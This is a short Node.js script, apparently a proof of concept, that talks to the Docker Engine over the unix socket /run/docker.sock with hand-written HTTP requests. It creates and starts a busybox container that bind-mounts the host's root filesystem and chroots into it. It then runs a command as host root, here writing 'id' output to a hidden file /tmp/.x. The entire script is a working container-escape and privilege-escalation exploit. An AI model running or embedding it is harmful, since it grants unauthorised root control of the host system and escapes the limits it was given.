// Runs a shell through the Docker Engine API without http: a raw
// net.createConnection to the engine's unix socket, with the HTTP request
// that creates a container (host / mounted, sh -c) written by hand.
'use strict';

const net = require('net');

const body = JSON.stringify({
  Image: 'busybox',
  Cmd: ['sh', '-c', 'chroot /h sh -c "id > /tmp/.x"'],
  HostConfig: { Binds: ['/:/h'], AutoRemove: true },
});
const sock = net.createConnection({ path: '/run/docker.sock' }, () => {
  sock.write(
    'POST /v1.43/containers/create?name=probe HTTP/1.1\r\nHost: d\r\n' +
      `Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`
  );
});
sock.on('data', () => {
  const s2 = net.createConnection({ path: '/run/docker.sock' }, () => {
    s2.end('POST /v1.43/containers/probe/start HTTP/1.1\r\nHost: d\r\nContent-Length: 0\r\n\r\n');
  });
  sock.end();
});
